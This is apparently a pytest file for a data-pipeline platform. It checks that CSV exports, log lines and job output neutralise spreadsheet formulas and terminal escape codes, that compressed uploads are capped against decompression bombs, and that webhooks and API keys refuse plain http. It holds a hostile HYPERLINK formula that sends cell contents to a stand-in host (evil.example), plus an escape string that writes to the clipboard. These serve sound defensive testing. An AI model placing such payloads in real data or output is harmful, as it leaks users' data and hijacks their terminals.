"""What an event says is data everywhere: not a formula in a spreadsheet, not an order to a terminal."""

from __future__ import annotations

import csv
import io
import sys

import orjson
import pytest
import zstandard

from pipeline_platform.alerts.routes import parse_routes
from pipeline_platform.cli.ingest.batches import GZIP_RATIO, Target, _post
from pipeline_platform.cli.job import _print as print_job
from pipeline_platform.cli.options import console as shared_console
from pipeline_platform.cli.result_sets import print_csv
from pipeline_platform.cli.result_values import Column
from pipeline_platform.cli.terminal import SafeConsole
from pipeline_platform.cli.up import _Log
from pipeline_platform.core.spreadsheets import harmless
from pipeline_platform.gateway.inflate import FREE_BYTES, RATIO, inflate
from pipeline_platform.gateway.problems import ProblemError
from pipeline_platform.sources.plan import parse_plan
from pipeline_platform_tests.integration.test_gateway.kit import GOOD, Client, Pipeline

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
STEERING = "\x1b]0;title\x07\x1b[31mred\x1b]52;c;ZXZpbA==\x07\x9b2J\r\x08"
CONTROLS = ("\x1b", "\x07", "\x9b", "\x08", "\r")
TELEMETRY = "/v1/streams/telemetry/aggregates?format=csv"


def rows(text: str) -> list[dict[str, str]]:
    """CSV as mappings."""
    return list(csv.DictReader(io.StringIO(text)))


def test_csv_is_the_data_unless_it_is_for_a_spreadsheet(client: Client, pipeline: Pipeline) -> None:
    client.post([{**GOOD, "source": FORMULA, "value": 3}])
    pipeline.run()
    plain, tame = client.get(TELEMETRY), client.get(TELEMETRY + "&spreadsheet=true")
    assert [row["source"] for row in rows(plain.text)] == [FORMULA]
    assert [row["source"] for row in rows(tame.text)] == ["'" + FORMULA]
    assert rows(plain.text)[0]["value_sum"] == rows(tame.text)[0]["value_sum"], "numbers stay numbers"
    for answer in (plain, tame):
        assert answer.headers["Content-Disposition"] == 'attachment; filename="telemetry.csv"'


@pytest.mark.parametrize("first", ["=", "+", "-", "@", "\t", "\r"])
def test_each_beginning_of_a_formula_is_defused(first: str) -> None:
    assert harmless(f"{first}1") == f"'{first}1"
    assert harmless(f"1{first}") == f"1{first}"
    assert harmless(-1.5) == -1.5


@pytest.mark.parametrize("terminal", [False, True])
def test_csv_steers_no_terminal(
    capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch, terminal: bool
) -> None:
    monkeypatch.setattr(sys.stdout, "isatty", lambda: terminal)
    print_csv([Column("a")], iter([(STEERING,), (FORMULA,)]), spreadsheet=True)
    said = capsys.readouterr().out
    assert ("\x1b" in said) is not terminal, "a file gets the data as it is"
    assert "'=HYPERLINK" in said


def terminal_of(monkeypatch: pytest.MonkeyPatch) -> io.StringIO:
    """What the shared console sends to a terminal."""
    screen = io.StringIO()
    monkeypatch.setattr(shared_console, "_file", screen)
    monkeypatch.setattr(shared_console, "_force_terminal", False)
    return screen


def test_a_log_line_of_a_service_steers_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    screen = terminal_of(monkeypatch)
    _Log().emit("postgres", f"ERROR: {STEERING} [bold]not bold[/]")
    said = screen.getvalue()
    assert "red" in said
    assert "[bold]not bold[/]" in said
    assert not [sign for sign in CONTROLS if sign in said]


def test_a_job_steers_nothing(monkeypatch: pytest.MonkeyPatch) -> None:
    screen = terminal_of(monkeypatch)
    print_job({"receipt": "telemetry.1-0", "state": STEERING, "error": {"message": f"it said {STEERING}"}})
    said = screen.getvalue()
    assert "it said" in said
    assert not [sign for sign in CONTROLS if sign in said]


def test_a_console_keeps_its_own_colours() -> None:
    screen = io.StringIO()
    SafeConsole(file=screen, force_terminal=True, color_system="standard").print(f"[green]ok[/] {STEERING}")
    assert "\x1b[32mok\x1b[0m" in screen.getvalue()
    assert screen.getvalue().count("\x1b") == 2


def test_a_small_body_does_not_make_much_work(client: Client) -> None:
    event = b'{"source":"a","metric":"b\\n","value":1}\n'

    def sent(size: int) -> int:
        body = zstandard.compress(event * (size // len(event)))
        return client.post(body, headers={"Content-Encoding": "zstd"}).status_code

    assert sent(FREE_BYTES) == 202
    assert sent(FREE_BYTES * 2) == 413
    assert sent(FREE_BYTES * 200) == 413


def test_what_is_inflated_grows_with_what_was_sent() -> None:
    varied = b"".join(b'{"n":%d}\n' % (number * 7919 % 1_000_003) for number in range(400_000))
    assert inflate(zstandard.compress(varied, 3), "zstd", len(varied)) == varied
    with pytest.raises(ProblemError, match=f"{RATIO} times"):
        inflate(zstandard.compress(bytes(FREE_BYTES + 1)), "zstd", 8 * FREE_BYTES)


def test_the_command_line_does_not_look_like_such_an_attack() -> None:
    sent: list[tuple[bytes, dict[str, str]]] = []

    class Recorder:
        def post(self, path: str, body: bytes, headers: dict[str, str]) -> None:
            sent.append((body, headers))

    alike, varied = b'{"a":1}\n' * 300_000, orjson.dumps(list(range(300_000)))
    for body in (alike, varied):
        _post(Recorder(), Target("telemetry", gzip=True), 0, body)  # type: ignore[arg-type]
    assert (sent[0][0], "Content-Encoding" in sent[0][1]) == (alike, False)
    assert sent[1][1]["Content-Encoding"] == "gzip"
    assert GZIP_RATIO < RATIO


@pytest.mark.parametrize(("scheme", "clear"), [("http", True), ("https", False)])
def test_a_route_that_goes_in_clear_is_found(scheme: str, clear: bool) -> None:
    text = f"routes:\n  - {{name: team, url: '{scheme}://example.com/hook', format: json}}\n"
    (route,) = parse_routes(text, "alerts.yaml", ["telemetry"])
    assert route.in_clear({}) is clear
    (by_name,) = parse_routes("routes:\n  - {name: team, url_env: HOOK, format: json}\n", "alerts.yaml", [])
    assert by_name.in_clear({"HOOK": f" {scheme.upper()}://example.com"}) is clear


def test_a_key_of_prices_goes_nowhere_in_clear() -> None:
    text = (
        "sources:\n  coingecko:\n    api_key_env: KEY\n    base_url: {}://example.com\n"
        "    instruments: {{BTC-USD: bitcoin}}\n"
    )
    parse_plan(text.format("https"), "prices.yaml")
    with pytest.raises(Exception, match="https://"):
        parse_plan(text.format("http"), "prices.yaml")
